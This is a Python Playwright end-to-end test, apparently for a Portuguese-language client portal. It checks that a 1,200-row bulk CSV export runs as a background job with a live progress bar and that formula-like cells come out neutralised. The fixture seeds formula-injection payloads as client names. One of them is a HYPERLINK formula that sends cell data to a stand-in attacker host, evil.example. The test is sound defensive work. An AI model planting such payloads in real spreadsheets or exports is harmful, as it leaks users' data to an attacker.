"""A clerk exports 1,200 clients (above a lowered threshold): the progress bar fills without
a reload, the file downloads, and it holds every row with formula-like cells neutralised."""

import csv
import io
import time
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from portal import db
from portal.clients import service

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.config(
        CLIENTELA_JOB_THRESHOLD=500,
        CLIENTELA_JOB_BATCH=100,
        CLIENTELA_JOB_PAUSE_SECONDS=0.1,
        CLIENTELA_JOB_RUNNER="thread",
    ),
]
ROWS = 1200
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Clique")', "+5511 golpe", "@SUM(1+1)"]


@pytest.fixture
def many_clients(app, staff, tmp_path):
    app.config["CLIENTELA_EXPORT_DIR"] = str(tmp_path / "exports")
    with app.app_context():
        for n in range(ROWS - len(FORMULAS)):
            service.register(service.ClientInput(name=f"Cliente {n:04d}"), staff)
        for name in FORMULAS:
            service.register(service.ClientInput(name=name, tags="-1+1"), staff)
        db.session.commit()


def test_export_of_1200_clients_runs_as_a_job_with_a_progress_bar(
    page: Page, live_server, many_clients, artifacts
):
    page.goto(f"{live_server}/admin/login")
    page.get_by_label("E-mail").fill("equipe@loja.example")
    page.get_by_label("Senha").fill("senha-forte-123")
    page.get_by_role("button", name="Entrar").click()
    page.get_by_label("Ação em massa").select_option("export_csv")
    page.get_by_label("Todos que atendem ao filtro").check()
    page.get_by_role("button", name="Aplicar…").click()
    expect(page.locator("#bulk-confirm")).to_contain_text("Exportar 1200 cliente(s)?")
    expect(page.locator("[data-bulk-how]")).to_contain_text("Nada muda nos clientes")
    page.get_by_role("button", name="Confirmar").click()

    url = page.url
    bar = page.locator("#job-progress progress")
    seen = set()
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        status = page.locator("#job-progress").get_attribute("data-status")
        seen.add(bar.get_attribute("value"))
        if status == "done":
            break
        page.wait_for_timeout(100)
    assert page.url == url  # htmx swapped the bar in place: no reload
    expect(bar).to_have_attribute("value", str(ROWS))
    expect(bar).to_have_attribute("max", str(ROWS))
    expect(page.locator("[data-job-numbers]")).to_contain_text("1.200 de 1.200 linhas (100%)")
    assert len(seen - {"0", str(ROWS)}) >= 1, seen  # the bar moved on the way
    page.screenshot(path=str(artifacts / "job-done.png"), full_page=True)

    with page.expect_download() as info:
        page.locator("[data-job-download]").click()
    text = Path(info.value.path()).read_text(encoding="utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(rows) == ROWS + 1
    names = {r[0] for r in rows[1:]}
    assert {"'" + f for f in FORMULAS} <= names
    assert not any(r[0].startswith(("=", "+", "-", "@")) for r in rows[1:])
    assert [r[10] for r in rows[1:] if r[0].startswith("'")] == ["'-1+1"] * len(FORMULAS)
